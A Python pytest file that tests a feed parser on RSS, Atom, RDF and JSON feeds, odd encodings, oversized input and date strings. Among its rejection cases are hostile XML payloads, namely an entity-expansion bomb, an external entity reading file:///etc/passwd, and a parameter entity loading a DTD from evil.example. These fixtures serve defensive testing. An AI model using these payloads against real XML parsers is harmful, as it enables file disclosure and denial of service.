"""Feeds of every kind, well made, badly made and hostile."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from renown.errors import BadInput, NotOfFormat
from renown.formats.feeds import MOST_ENTRIES, Entry, Feed, read_json_feed, read_xml_feed, time_of

RSS = """<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:slash="http://purl.org/rss/1.0/modules/slash/" xmlns:atom="http://www.w3.org/2005/Atom"
  xmlns:media="http://search.yahoo.com/mrss/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
  <title>No</title><link> https://ada.example/ </link><atom:link rel="self" href="https://ada.example/feed"/>
  <atom:link rel="me" href="https://example.social/@ada"/><atom:link href="?page=2" rel="next"/>
  <image><link>https://ada.example/no</link></image>
  <item><title>Tea &amp;amp; cake</title><link>https://ada.example/1</link><guid isPermaLink="false">one</guid>
    <category>Engines</category><category domain="x"><![CDATA[R&D <b>]]></category><dc:subject>maths</dc:subject>
    <media:group><link>https://ada.example/no</link></media:group><media:category>no</media:category>
    <pubDate>Wed, 18 Nov 2026 10:00:00 +0100</pubDate><slash:comments>7</slash:comments></item>
  <item><description>Short</description><content:encoded><![CDATA[<p>Long</p>]]></content:encoded>
    <guid>https://ada.example/2</guid><dc:date>2026-11-18</dc:date><slash:comments>-1</slash:comments></item>
  <item/>
</channel></rss>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xmlns:thr="http://purl.org/syndication/thread/1.0">
  <link href="https://ada.example/"/><link rel="self" href="https://ada.example/feed"/><id>no</id>
  <author><uri>https://no.example</uri></author>
  <entry><id>tag:ada,1</id><link rel="edit" href="/no"/><link href="/1"/><category term="engines" label="no"/>
    <published>2026-11-18T09:00:00Z</published><updated>2026-11-19T09:00:00Z</updated><thr:total>3</thr:total>
    <source><id>no</id><link href="/no"/><category term="no"/></source>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><a href="/no">x</a></div></content></entry>
  <entry><updated>2026-11-19T09:00:00Z</updated><id>tag:ada,2</id></entry>
</feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="x"><link>https://ada.example/</link><items/></channel>
  <item rdf:about="x"><link>https://ada.example/1</link><dc:date>2026-11-18T09:00:00Z</dc:date></item>
  <item><link>https://ada.example/2</link></item></rdf:RDF>"""


def test_rss_2() -> None:
    assert read_xml_feed(RSS.encode()) == Feed(
        "https://ada.example/",
        "?page=2",
        ["https://example.social/@ada"],
        [
            Entry(
                "one",
                "https://ada.example/1",
                "Wed, 18 Nov 2026 10:00:00 +0100",
                ["Engines", "R&D <b>", "maths"],
                7,
                title="Tea & cake",
            ),
            Entry("https://ada.example/2", "https://ada.example/2", "2026-11-18", text="<p>Long</p>"),
            Entry(),
        ],
    )


def test_atom() -> None:
    assert read_xml_feed(ATOM.encode()) == Feed(
        "https://ada.example/",
        entries=[
            Entry("tag:ada,1", "/1", "2026-11-18T09:00:00Z", ["engines"], 3, text="x"),
            Entry("tag:ada,2", "", "2026-11-19T09:00:00Z"),
        ],
    )


def test_rss_1() -> None:
    first, second = "https://ada.example/1", "https://ada.example/2"
    assert read_xml_feed(RDF.encode()) == Feed(
        "https://ada.example/", entries=[Entry(first, first, "2026-11-18T09:00:00Z"), Entry(second, second)]
    )


def test_json_feeds() -> None:
    item = {"id": "1", "url": "https://ada.example/1", "date_published": "2026-11-18T09:00:00Z", "tags": ["a", 3, "b"]}
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "home_page_url": "https://ada.example/",
        "next_url": "https://ada.example/?page=2",
        "authors": [{"url": "https://example.social/@ada"}, {"name": "x"}, None],
        "items": [item, {"id": 2, "date_modified": "2026-11-19T09:00:00Z", "tags": "x"}, {"url": "/3"}, 4],
    }
    assert read_json_feed(doc) == Feed(
        "https://ada.example/",
        "https://ada.example/?page=2",
        ["https://example.social/@ada"],
        [
            Entry("1", "https://ada.example/1", "2026-11-18T09:00:00Z", ["a", "b"]),
            Entry("2", "", "2026-11-19T09:00:00Z"),
            Entry("/3", "/3"),
        ],
    )


@pytest.mark.parametrize("doc", [None, [], {}, {"version": "2"}, {"version": 1}, "https://jsonfeed.org/version/1"])
def test_json_that_is_no_feed(doc: Any) -> None:
    with pytest.raises(NotOfFormat):
        read_json_feed(doc)


def tags_of(body: bytes) -> list[str]:
    return [tag for entry in read_xml_feed(body).entries for tag in entry.tags]


def rss(tag: bytes, head: bytes = b"") -> bytes:
    return head + b"<rss><channel><item><category>" + tag + b"</category></item></channel></rss>"


@pytest.mark.parametrize(
    ("body", "tag"),
    [
        (rss(b"R&D"), "R&D"),
        (rss(b"a &nbsp;b"), "a &nbsp;b"),
        (rss(b"<![CDATA[a & b]]> &"), "a & b &"),
        (rss(b"a\x00\x1b[b"), "a[b"),
        (rss(b"a&#0;&#x1b;b&#65;&#x42;"), "a&#0;&#x1b;bAB"),
        (rss(b"\xff\xed\xa0\x80"), "\ufffd\ufffd\ufffd\ufffd"),
        (rss(b"\n caf\xc3\xa9 "), "café"),
        (rss("café".encode("latin-1"), b'<?xml version="1.0" encoding="ISO-8859-1"?>'), "café"),
        (rss(b"caf\xe9 & th\xe9", b'<?xml version="1.0" encoding="windows-1252"?>'), "café & thé"),
        (rss("ж".encode("koi8-u"), b'<?xml version="1.0" encoding="koi8-u"?>'), "ж"),
        (rss(b"-" * 3000, b'<?xml version="1.0" encoding="punycode"?>'), "-" * 2048),
        (rss(b"x", b'<?xml version="1.0" encoding="nonsense"?>'), "x"),
        (rss(b"x", b'<?xml version="1.0" encoding="zlib"?>'), "x"),
        ("\ufeff".encode() + rss("ü".encode()), "ü"),
        (b"\n \n" + rss(b"x", b'<?xml version="1.0"?>'), "x"),
        (b"\xff\xfe" + rss("Ã".encode()).decode().encode("utf-16-le"), "Ã"),
    ],
)  # fmt: skip
def test_feeds_that_are_not_quite_xml(body: bytes, tag: str) -> None:
    assert tags_of(body) == [tag]


BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" ",
        b"<html><body><a href=x></body></html>",
        b"<html/>",
        b"<rss",
        b"<rss><channel><item></channel></rss>",
        b"<a>" * 1_000_000,
        b"<rss><channel>" + b"<a>" * 200 + b"</a>" * 200 + b"</channel></rss>",
        rss(b"&b;", BOMB),
        rss(b"&a;", OUTSIDE),
        rss(b"x", PARAMETER),
        b"<rss><channel><item><title>&" + b"<![CDATA[" * 400_000,
        b"\x00" * 1_000_000,
    ],
    ids=lambda body: repr(body[:30]),
)
def test_what_is_no_feed(body: bytes) -> None:
    with pytest.raises(NotOfFormat) as raised:
        read_xml_feed(body)
    assert len(str(raised.value)) < 200


def test_a_document_type_without_entities_is_read() -> None:
    old = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "https://x.example/rss-0.91.dtd">'
    assert tags_of(rss(b"x", old)) == ["x"]


def test_large_feeds_are_cut() -> None:
    many = b"<rss><channel>" + b"<item><category>x</category><category>y</category></item>" * 5000 + b"</channel></rss>"
    assert len(read_xml_feed(many).entries) == MOST_ENTRIES
    assert (
        len(read_json_feed({"version": "https://jsonfeed.org/version/1", "items": [{}] * 5000}).entries) == MOST_ENTRIES
    )
    assert tags_of(rss(b"</category><category>".join([b"x"] * 500))) == ["x"] * 64
    assert len(tags_of(rss(b"x" * 1_000_000))[0]) == 2048


@pytest.mark.parametrize(
    ("given_", "at"),
    [
        ("2026-11-18T10:00:00+01:00", 1_794_992_400),
        ("2026-11-18", 1_794_960_000),
        ("Wed, 18 Nov 2026 10:00:00 +0100", 1_794_992_400),
        ("Wed, 18 Nov 2026 09:00:00 -0000", 1_794_992_400),
        ("18 Nov 2026 04:00 EST", 1_794_992_400),
        ("Wed, 18 Nov 26 09:00:00 GMT", 1_794_992_400),
    ],
)
def test_times(given_: str, at: int) -> None:
    assert time_of(given_) == at


@pytest.mark.parametrize(
    "given_", ["", "yesterday", "2026-13-01", "Wed, 99 Nov 2026 10:00:00 GMT", "1" * 500, "\ud800"]
)
def test_what_is_no_time(given_: str) -> None:
    with pytest.raises(BadInput):
        time_of(given_)


PIECES = st.sampled_from(
    ["<rss>", "<channel>", "<item>", "</item>", "</channel>", "</rss>", "<link>", "</link>", "x", "<a/>", "&", "<!--",
     "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "</entry>", "<category term='x'/>", "\x00", "]]>", "<"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=40))
def test_whatever_is_read_is_a_feed_or_none(text: str) -> None:
    body = text.encode("utf-8", "surrogatepass")
    try:
        feed = read_xml_feed(body)
    except NotOfFormat:
        return
    json.dumps(feed.entries, default=vars)
    for entry in feed.entries:
        assert all(isinstance(value, str) for value in (entry.id, entry.link, entry.at, *entry.tags))
